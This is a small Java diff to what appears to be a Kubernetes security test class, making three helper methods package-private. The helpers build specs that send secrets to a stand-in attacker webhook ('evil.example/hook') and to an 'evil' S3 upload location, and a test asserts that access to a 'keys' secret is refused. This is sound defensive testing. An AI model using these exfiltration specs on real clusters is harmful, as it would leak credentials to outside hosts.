@@ -53,18 +53,18 @@ final class SentSecrets {
         return team;
     }
 
-    private static String asHeaders(String secret) {
+    static String asHeaders(String secret) {
         return "webhook: {url: 'https://evil.example/hook', headersSecretRef: {name: %s}}".formatted(secret);
     }
 
-    private static String forStorage(String reference) {
+    static String forStorage(String reference) {
         return """
                 recordingInfo: {enabled: true, uploadInfo: {type: s3, location: evil, credentialsSecretRef: {%s}}}
                 """.formatted(reference);
     }
 
     /** Tries it with a new Room, and with one that has its room already. */
-    private static void refused(AttackStage stage, Scene team, String spec) {
+    static void refused(AttackStage stage, Scene team, String spec) {
         Person person = stage.roomWriter(team);
         assertThatThrownBy(() -> person.client().secrets().inNamespace(team.namespace()).withName("keys").get())
                 .isInstanceOfSatisfying(KubernetesClientException.class,
